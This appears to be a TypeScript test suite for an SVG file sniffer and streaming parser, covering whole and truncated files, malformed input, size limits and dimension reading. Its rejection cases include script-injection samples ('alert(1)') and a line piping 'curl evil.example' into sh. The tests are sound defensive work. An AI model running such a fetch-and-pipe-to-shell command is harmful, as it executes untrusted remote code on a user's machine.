import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sniffDelivered } from '../../src/image/media-type.ts';
import { readPixels } from '../../src/image/pixels.ts';
import { followPicture } from '../../src/image/walk.ts';

const xmlns = 'xmlns="http://www.w3.org/2000/svg"';
const svg = `<svg ${xmlns} width="9" height="5"><path d="M0 0"/></svg>`;

/** What a file turned out to be, given in pieces of this length. */
function endOf(text: string | Uint8Array, length = Number.POSITIVE_INFINITY): 'whole' | 'cut' | undefined {
  const file = Buffer.from(text as string);
  const type = sniffDelivered(file);
  const follower = type && followPicture(type);
  for (let start = 0; start < file.length; start += length) {
    if (!follower?.take(file.subarray(start, start + length))) return undefined;
  }
  return follower?.end();
}

const illustrator = `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: a <svg> "program" -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
  <!ENTITY ns_svg "http://www.w3.org/2000/svg">
]>
<svg version="1.1" xmlns="&ns_svg;" viewBox="0 0 9 5"><g/></svg>
`;

const whole: Record<string, string> = {
  'one element': svg,
  'one that is empty': `<svg ${xmlns}/>`,
  'a byte order mark, and space on both sides': `\uFEFF \r\n${svg}\n\t`,
  'a declaration, a comment, a doctype and an entity': illustrator,
  'comments and instructions at the end': `${svg}<!-- > -- </svg> --><?end ?>\n`,
  'a prefix': `<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:g ></s:g ></s:svg >`,
  'no namespace': '<svg><g/></svg>',
  'signs in values': `<svg ${xmlns} data-x="a > b 'c' /"><g title='"/>'>text</g></svg>`,
  'styles, texts and letters of all kinds': `<svg ${xmlns}><style><![CDATA[a > b < c ]] {}]]></style><tëxt>灯台 🗼 & so</tëxt></svg>`,
  'svg within svg': `<svg ${xmlns}><svg/><svg></svg></svg>`,
};

describe.each(Object.entries(whole))('an SVG of %s', (_, text) => {
  test('is whole, in whatever pieces it comes', () => {
    for (const length of [Number.POSITIVE_INFINITY, 1, 2, 3, 7, 64])
      expect([length, endOf(text, length)]).toEqual([length, 'whole']);
  });

  test('is none when it is cut before the end of its root', () => {
    const end = text.search(/(<\/s:svg >|<\/svg>|\/>)\s*(<!--.*)?$/s);
    for (let cut = 0; cut < Buffer.byteLength(text.slice(0, end)); cut += 1)
      expect([cut, endOf(Buffer.from(text).subarray(0, cut))]).toEqual([cut, undefined]);
  });
});

test.each([
  ['a page with an SVG in it', `<!doctype html><html><body>${svg}</body></html>`],
  ['a page that begins with a comment', `<!-- ${svg} --><html>${svg}</html>`],
  ['a page with the doctype of an SVG', `<!DOCTYPE svg><html xmlns="http://www.w3.org/1999/xhtml">${svg}</html>`],
  ['an SVG with the doctype of a page', `<!DOCTYPE html>${svg}`],
  ['an SVG before a page', `${svg}<html></html>`],
  ['an SVG before a script', `${svg}\nalert(1)`],
  ['an SVG before a script in markup', `${svg}<script>alert(1)</script>`],
  ['two SVGs', svg + svg],
  ['a script that looks like its tag', '<svg alert(1)></svg>'],
  ['a shell script', '<svg\n#!/bin/sh\ncurl evil.example | sh\n'],
  ['an error of a store', '<?xml version="1.0"?><Error><Code>NoSuchKey</Code></Error>'],
  ['an element of another name', `<svgs ${xmlns}/>`],
  ['an element of another namespace', '<svg xmlns="http://www.w3.org/1999/xhtml"><script/></svg>'],
  ['tags that cross', `<svg ${xmlns}><g><p></g></p></svg>`],
  ['text before it', `; ${svg}`],
  ['data before it', `<![CDATA[x]]>${svg}`],
  ['a comment that stays open', `${svg}<!-- `],
  ['a doctype inside', `<svg ${xmlns}><!DOCTYPE svg></svg>`],
  ['nothing but a comment', '<!-- svg -->'],
  ['a NUL', `<svg ${xmlns}>\0</svg>`],
  [
    'bytes that are no UTF-8',
    Buffer.concat([Buffer.from(svg.slice(0, -6)), Buffer.from([0xff]), Buffer.from('</svg>')]),
  ],
  ['half a letter at the end', Buffer.concat([Buffer.from(`${svg}`), Buffer.from([0xe2, 0x82])])],
  ['UTF-16', Buffer.from(`\uFEFF${svg}`, 'utf16le')],
])('%s is no picture', (_, text) => {
  expect([endOf(text), endOf(text, 1), endOf(text, 7)]).toEqual([undefined, undefined, undefined]);
});

describe('an SVG without measure', () => {
  const around = (inside: string): string => `<svg ${xmlns}>${inside}</svg>`;

  test.each([
    ['parts', around('<g/>'.repeat(2_000_001))],
    ['depth', around(`${'<g>'.repeat(3000)}${'</g>'.repeat(3000)}`)],
    ['a name', `<${'s'.repeat(100_000)}`],
    ['a doctype', `<!DOCTYPE svg ${' '.repeat(100_000)}`],
  ])('in %s is no picture, and not kept', (_, text) => {
    expect(endOf(text, 16_384)).toBeUndefined();
  });

  test('in one value, one text or one comment is a picture', () => {
    const long = 'M 1 2 '.repeat(2_000_000);
    for (const text of [`<path d="${long}"/>`, long, `<!--${long}-->`])
      expect(endOf(around(text), 16_384)).toBe('whole');
  });
});

test('what follows the beginning of an SVG is judged the same in whatever pieces it comes, and without throwing', () => {
  const parts = [
    '<svg>',
    '</svg>',
    '<',
    '>',
    '/',
    '"',
    "'",
    '<!--',
    '-->',
    '<!DOCTYPE svg',
    '[',
    ']',
    '<?',
    '?>',
    '<g ',
    '</g>',
    'a="b"',
    ' ',
    'é',
  ];
  const texts = fc.array(fc.constantFrom(...parts), { maxLength: 12 }).map((each) => each.join(''));
  fc.assert(
    fc.property(texts, fc.integer({ min: 1, max: 9 }), fc.boolean(), (text, length, isOpen) => {
      const file = isOpen ? `<svg>${text}</svg>` : text;
      expect(endOf(file, length)).toBe(endOf(file));
      readPixels(Buffer.from(file));
    }),
    { numRuns: 3000 },
  );
});

test.each([
  ['width="9" height="5"', { width: 9, height: 5 }],
  ["width = '9px'\n height='5.4px' viewBox='0 0 90 50'", { width: 9, height: 5 }],
  ['viewBox="0 0 90 50"', { width: 90, height: 50 }],
  ['viewBox="-1,-1, 90,50" width="100%" height="100%"', { width: 90, height: 50 }],
  ['width="9"', undefined],
  ['width="9em" height="5em"', undefined],
  ['width="0" height="5"', undefined],
  ['data-width="9" stroke-width="1" title=\' width="9" height="5"\'', undefined],
  ['', undefined],
])('an SVG with %j is of the size %j', (attributes, size) => {
  expect(
    readPixels(Buffer.from(`<?xml version="1.0"?><!-- <svg width="1" height="1"> --><svg ${xmlns} ${attributes}/>`)),
  ).toEqual(size);
});
